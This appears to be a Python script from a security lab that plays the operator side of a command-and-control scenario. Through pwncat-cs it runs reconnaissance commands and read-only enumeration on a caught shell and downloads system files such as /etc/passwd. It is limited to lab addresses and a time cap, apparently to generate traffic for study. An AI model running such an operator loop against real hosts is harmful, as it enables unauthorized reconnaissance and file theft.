"""The operator's side of the lab's c2 scenario: a pwncat-cs handler that takes one reverse shell
and works it as an operator would, with pauses between tasks.

Runs in the attacker namespace under pwncat-cs's own Python (``/opt/multa-lab/pwncat``; its
pinned dependencies do not fit multa's environment), so it imports nothing of multa. It only
looks: commands that read, pwncat's read-only enumeration modules, and downloads of small files.
No implant, persistence or escalation module is ever run, and the shell at the other end runs as
``nobody``.

    python c2pwncat.py --bind 10.77.0.66 --port 4444 --tasks 6 --seed 3 --max-seconds 120
"""

from __future__ import annotations

import argparse
import ipaddress
import os
import random
import threading
import time

LAB_NET = ipaddress.ip_network("10.77.0.0/16")

COMMANDS = [["id"], ["whoami"], ["hostname"], ["uname", "-a"], ["ps", "aux"], ["ls", "-la", "/tmp"],
            ["cat", "/etc/os-release"], ["ss", "-tan"], ["ip", "addr"], ["env"], ["df", "-h"],
            ["ls", "-la", "/etc"], ["cat", "/proc/cpuinfo"], ["uptime"], ["w"]]
#: pwncat enumeration types that only read.
ENUMERATIONS = ["system.distro", "system.process", "system.service", "system.network.interface",
                "system.mountpoint", "system.aslr", "system.container", "system.init", "software.sudo.version",
                "network.hosts", "user", "group"]
DOWNLOADS = ["/etc/hostname", "/etc/os-release", "/etc/passwd", "/proc/version", "/etc/services"]


def task(session, rng: random.Random) -> str:
    kind = rng.choices(["command", "enumerate", "download"], weights=[6, 2, 2])[0]
    if kind == "command":
        cmd = rng.choice(COMMANDS)
        session.platform.run(cmd, capture_output=True, text=True, timeout=20)
        return " ".join(cmd)
    if kind == "enumerate":
        kind_ = rng.choice(ENUMERATIONS)
        list(session.run("enumerate", types=[kind_]) or [])
        return f"enumerate {kind_}"
    path = rng.choice(DOWNLOADS)
    with session.platform.open(path, "rb") as f:
        f.read()
    return f"download {path}"


def main() -> int:
    ap = argparse.ArgumentParser(description="pwncat-cs operator for the lab's c2 scenario (lab addresses only)")
    ap.add_argument("--bind", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tasks", type=int, default=5)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--pause", type=float, nargs=2, default=(0.5, 5.0), metavar=("MIN", "MAX"),
                    help="seconds between tasks, drawn uniformly")
    ap.add_argument("--max-seconds", type=float, default=120)
    a = ap.parse_args()
    if ipaddress.ip_address(a.bind) not in LAB_NET:
        ap.error(f"--bind {a.bind} is outside the lab network {LAB_NET}")
    # The whole process ends at the limit, whatever pwncat is waiting on.
    threading.Timer(a.max_seconds, lambda: os._exit(3)).start()
    from pwncat.manager import Manager

    rng = random.Random(a.seed)
    with Manager(config=None) as manager:
        session = manager.create_session("linux", protocol="bind", host=a.bind, port=a.port)
        for _ in range(a.tasks):
            time.sleep(rng.uniform(*a.pause))
            print("task:", task(session, rng), flush=True)
        session.close()
    os._exit(0)  # the timer thread must not keep the process


if __name__ == "__main__":
    raise SystemExit(main())
